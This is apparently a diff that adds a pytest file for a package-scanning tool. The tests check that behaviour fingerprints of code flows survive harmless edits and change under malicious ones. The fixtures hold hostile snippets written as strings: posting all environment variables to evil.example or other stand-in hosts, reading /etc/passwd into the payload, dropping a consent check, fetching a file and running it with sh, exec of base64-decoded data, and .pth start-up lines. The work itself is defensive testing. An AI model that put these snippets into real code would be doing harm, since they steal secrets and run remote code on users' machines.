@@ -1,0 +1,182 @@
+"""A fingerprint finds a flow again in another release, and no other flow.
+
+Each case is a release and a later one. What an attacker changes in an old flow must change its
+fingerprint; what maintainers change around it must not.
+"""
+
+# ruff: noqa: E501  # programs on one line
+
+from collections.abc import Mapping
+from pathlib import Path
+
+import pytest
+
+from package_gate.scanners.behaviour.package import PackageBehaviour, Seen
+from package_gate.scanners.running_files import RunningFiles
+
+WHEEL = "sample-1.0-py3-none-any.whl"
+SEND = "sample/telemetry.py"
+FLOW = """\
+import os
+import requests
+from .config import URL
+from . import consent
+
+def collect():
+    return {name: os.environ[name] for name in os.environ}
+
+def send():
+    if not consent.given():
+        return
+    data = collect()
+    requests.post(URL, json=data)
+
+send()
+"""
+RELEASE = {
+    "sample/__init__.py": "from . import telemetry\n",
+    "sample/config.py": "HOST = 'https://telemetry.example'\nURL = HOST + '/v1'\n",
+    "sample/consent.py": "import os\ndef given():\n    return bool(os.environ.get('OPT_IN'))\n",
+    SEND: FLOW,
+}
+
+
+def prints(folder: Path, files: Mapping[str, str | bytes], filename: str = WHEEL) -> set[str]:
+    for name, content in files.items():
+        path = folder / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(content.encode() if isinstance(content, str) else content)
+    package = PackageBehaviour(folder, RunningFiles(folder, filename), Seen.nothing(1))
+    found = [each for name in files if name.endswith((".py", ".pth")) for each in package.of(name)]
+    assert found
+    return {each.fingerprint for each in found}
+
+
+def changed(path: str, old: str, new: str) -> dict[str, str]:
+    assert old in RELEASE[path]
+    return {**RELEASE, path: RELEASE[path].replace(old, new)}
+
+
+SAME: dict[str, dict[str, str]] = {
+    "nothing changes": RELEASE,
+    "comments, docstrings and layout": changed(
+        SEND, "    data = collect()\n", '    """Say hello."""\n\n    # now\n    data = (collect())\n'
+    ),
+    "lines above it": changed(SEND, "import os\n", "import os\nimport sys\n\nVERSION = 2\n"),
+    "code around it": changed(SEND, "send()\n", "send()\n\ndef other():\n    return collect()\n"),
+    "another module": {**RELEASE, "sample/other.py": "x = 1\n"},
+    "another constant": changed("sample/config.py", "HOST =", "OTHER = 'x'\nHOST ="),
+    "quotes": changed("sample/config.py", "'https://telemetry.example'", '"https://telemetry.example"'),
+    "the flow moves to another module": {
+        **{path: text for path, text in RELEASE.items() if path != SEND},
+        "sample/__init__.py": "from . import reporting\n",
+        "sample/reporting.py": FLOW,
+    },
+}  # fmt: skip
+
+OTHER: dict[str, dict[str, str]] = {
+    "a constant in another module": changed("sample/config.py", "telemetry.example", "evil.example"),
+    "a constant that the constant is made of": changed("sample/config.py", "'/v1'", "'.evil.example/v1'"),
+    "a constant that is given later": changed("sample/config.py", "URL = HOST", "HOST = 'https://evil.example'\nURL = HOST"),
+    "a helper that collects": changed(SEND, "for name in os.environ", "for name in [*os.environ, 'X']"),
+    "what a helper is given changes": changed(SEND, "data = collect()", "data = collect()\n    data['keys'] = open('/etc/passwd').read()"),
+    "a helper changes what it is given": {
+        **RELEASE,
+        SEND: FLOW.replace("    data = collect()\n", "    data = collect()\n    add(data)\n").replace("def send", "def add(data):\n    data['k'] = open('/etc/passwd').read()\n\ndef send")
+    },
+    "a condition is gone": changed(SEND, "    if not consent.given():\n        return\n", ""),
+    "a condition in another module": changed("sample/consent.py", "bool(os.environ.get('OPT_IN'))", "True"),
+    "another argument": changed(SEND, "json=data)", "json=data, verify=False)"),
+    "a name of the module is replaced": changed(SEND, "send()\n", "requests = __import__('evil')\nsend()\n"),
+    "the constant is imported from elsewhere": changed(SEND, "from .config", "from evil.config"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", SAME)
+def test_what_maintainers_change_around_a_flow_leaves_it_the_same(
+    tmp_path: Path, name: str
+) -> None:
+    assert prints(tmp_path / "new", SAME[name]) == prints(tmp_path / "old", RELEASE)
+
+
+@pytest.mark.parametrize("name", OTHER)
+def test_what_changes_a_flow_makes_it_another(tmp_path: Path, name: str) -> None:
+    assert not prints(tmp_path / "new", OTHER[name]) & prints(tmp_path / "old", RELEASE)
+
+
+ALONE = "import os, requests\nrequests.post('https://a.example', json=dict(os.environ))\n"
+
+
+def test_a_flow_that_is_moved_to_where_it_runs_sooner_is_another(tmp_path: Path) -> None:
+    places = [
+        {"sample/__init__.py": "", "sample/script.py": ALONE},
+        {"sample/__init__.py": "from . import script", "sample/script.py": ALONE},
+        {"sample/__init__.py": ALONE},
+        {"sitecustomize.py": ALONE},
+    ]
+
+    found = [prints(tmp_path / str(number), files) for number, files in enumerate(places)]
+
+    assert len(set.union(*found)) == sum(map(len, found)) == len(places) + 1
+
+
+def test_a_function_that_another_module_calls_now_without_asking_is_another(
+    tmp_path: Path,
+) -> None:
+    code = "import os, requests\ndef send():\n" + "    " + ALONE.splitlines()[1] + "\n"
+    asks = "import os\nfrom .t import send\nif os.environ.get('OPT_IN'):\n    send()\n"
+    does_not = "from .t import send\nsend()\n"
+
+    old = prints(tmp_path / "old", {"sample/__init__.py": asks, "sample/t.py": code})
+    new = prints(tmp_path / "new", {"sample/__init__.py": does_not, "sample/t.py": code})
+
+    assert not old & new
+
+
+def test_what_is_written_to_a_file_and_run_later_belongs_to_the_flow(tmp_path: Path) -> None:
+    code = (
+        "import subprocess, urllib.request\n"
+        "urllib.request.urlretrieve('https://{}.example/a', '/tmp/a')\n"
+        "subprocess.Popen(['sh', '/tmp/a'])\n"
+    )
+
+    old = prints(tmp_path / "old", {"sample/__init__.py": code.format("a")})
+    new = prints(tmp_path / "new", {"sample/__init__.py": code.format("b")})
+
+    assert not old & new
+
+
+READS = (
+    "import base64, os\nhere = os.path.dirname(__file__)\n"
+    "exec(base64.b64decode(open(os.path.join(here, {})).read()))\n"
+)
+
+
+@pytest.mark.parametrize("name", ["'data.bin'", "'da' + 'ta.bin'"])
+def test_the_content_of_a_file_that_the_flow_reads_counts(tmp_path: Path, name: str) -> None:
+    code = READS.format(name)
+
+    old = prints(tmp_path / "old", {"sample/__init__.py": code, "sample/data.bin": b"1"})
+    new = prints(tmp_path / "new", {"sample/__init__.py": code, "sample/data.bin": b"2"})
+
+    assert not old & new
+
+
+def test_a_flow_that_is_too_large_is_the_same_in_the_same_files_only(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("package_gate.scanners.behaviour.fingerprints.MAX_STATEMENTS", 2)
+
+    old = prints(tmp_path / "old", RELEASE)
+
+    assert prints(tmp_path / "same", RELEASE) == old
+    assert not prints(tmp_path / "new", SAME["another module"]) & old
+
+
+def test_a_start_up_file_is_told_by_its_lines(tmp_path: Path) -> None:
+    line = "import os, requests; requests.post('https://{}.example', json=dict(os.environ))\n"
+
+    old = prints(tmp_path / "old", {"a.pth": line.format("a")})
+
+    assert prints(tmp_path / "same", {"b.pth": "# other\n" + line.format("a")}) == old
+    assert not prints(tmp_path / "new", {"a.pth": line.format("b")}) & old
